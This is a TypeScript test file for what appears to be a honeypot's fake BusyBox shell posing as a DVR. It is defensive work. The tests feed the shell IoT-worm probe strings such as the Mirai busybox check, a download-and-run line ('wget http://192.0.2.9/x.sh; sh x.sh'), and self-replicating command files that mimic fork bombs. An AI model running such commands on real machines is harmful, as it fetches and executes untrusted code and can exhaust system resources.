import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Rehearsal } from '../testing/rehearsal.ts'
import { Shell } from './shell.ts'

const shellOf = (options = {}) => {
  const talk = new Rehearsal('telnet', { hostname: 'dvr', ...options })
  return { talk, shell: new Shell(talk, 'root') }
}
const printed = (...lines: string[]) => {
  const { shell } = shellOf()
  return lines.map((line) => shell.run(line)).join('')
}

describe('the canned shell', () => {
  it.each([
    ['/bin/busybox MIRAI', 'MIRAI: applet not found\n'],
    ["echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", 'gayfgt\n'],
    ['echo -ne "\\101\\x42"', 'AB'],
    ['/bin/busybox echo -e \\\\x41', 'A\n'],
    ['cd /tmp || cd /var/run; pwd', '/tmp\n'],
    ['nosuch && echo yes', 'sh: nosuch: not found\n'],
    ['nosuch || echo no', 'sh: nosuch: not found\nno\n'],
    ['echo a > f; cat f; rm f; cat f', 'a\ncat: f: No such file or directory\n'],
    ['echo hi | cat', 'hi\n'],
    ['sh -c "echo one; echo two" 2>/dev/null', 'one\ntwo\n'],
    ['uname -a', 'Linux dvr 4.9.37 #1 SMP PREEMPT armv7l GNU/Linux\n'],
    ['id; whoami', 'uid=0(root) gid=0(root) groups=0(root)\nroot\n'],
    ['cat /etc/hostname', 'dvr\n'],
  ])('answers %s as a device would', (line, answer) => {
    expect(printed(line)).toBe(answer)
  })

  it('keeps what a worm writes to see whether it can', () => {
    expect(
      printed(
        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
      ),
    ).toBe('kami/tmp\n')
  })

  it('shows the head of a program for those who look what they must fetch', () => {
    expect(printed('cat /bin/echo').slice(0, 4)).toBe('\x7fELF')
  })

  it('tells commands and what they would fetch, and fetches nothing', () => {
    const { talk, shell } = shellOf()
    expect(shell.run('cd /tmp; wget http://192.0.2.9/x.sh; sh x.sh')).toBe('')
    expect(talk.events).toMatchObject([
      { kind: 'command', text: 'cd /tmp; wget http://192.0.2.9/x.sh; sh x.sh' },
      { kind: 'link', url: 'http://192.0.2.9/x.sh' },
    ])
  })

  it('answers what the profile says before anything of its own', () => {
    const { shell } = shellOf({ shell: { 'show version': 'Version 1.2', id: 'uid=7' } })
    expect(shell.run('show version') + shell.run('id; echo x')).toBe('Version 1.2\nuid=7\nx\n')
  })

  it('ends when told to', () => {
    const { shell } = shellOf()
    shell.run('exit; echo still here')
    expect(shell.isOver).toBe(true)
  })

  it('takes any text, and prints a bounded amount of it', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        'echo ',
        '-e ',
        '\\x',
        '"',
        "'",
        ';',
        '|',
        '&&',
        '||',
        '>',
        '>>',
        '2>&1',
        'sh -c ',
        'cat ',
        'f',
        '/',
        '..',
        '\\',
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(fc.array(piece, { maxLength: 30 }), { maxLength: 5 }), (lines) => {
        const { shell } = shellOf()
        for (const line of lines) expect(shell.run(line.join('')).length).toBeLessThanOrEqual(32_768)
      }),
      { numRuns: 300 },
    )
  })

  describe('given a file of commands again and again', () => {
    // Each command that is run leaves one letter.
    const one = `echo "${'echo -n x>>/n;'.repeat(64)}">/g`
    const many = `echo "${'cat /g|sh;'.repeat(32)}">/f`
    const again = 'cat /f|sh;'.repeat(32)

    it('runs some of them for each line, and then no more for whoever typed it', () => {
      const { shell } = shellOf()
      for (const line of [one, many]) shell.run(line)
      expect(shell.run(again)).toContain("sh: can't fork\n")
      const ofLine = shell.run('cat /n').length
      expect(ofLine).toBeGreaterThan(64)
      expect(ofLine).toBeLessThanOrEqual(256)
      for (let line = 0; line < 50; line++) shell.run(again)
      expect(shell.run('cat /n').length).toBeGreaterThan(ofLine)
      expect(shell.run('cat /n').length).toBeLessThanOrEqual(1024)
      expect(shell.run('echo a; echo b')).toBe('a\nb\n')
    })

    it('counts what is read as well as what is run', () => {
      const { shell } = shellOf()
      shell.run(`echo "${'#'.repeat(2000)}; echo -n x>>/n">/g`)
      for (let line = 0; line < 50; line++) shell.run('cat /g|sh;'.repeat(32))
      expect(shell.run('cat /n').length).toBeLessThanOrEqual((1024 * 64) / 2000)
    })
  })

  it('does not grow what it is given', () => {
    const { shell } = shellOf()
    shell.run(`echo ${'a'.repeat(3000)} > f`)
    for (let i = 0; i < 20; i++) shell.run('cat f f f f f f f f > g; cat g g g g > f')
    expect(shell.run('cat f g').length).toBeLessThanOrEqual(2 * 4096)
  })
})
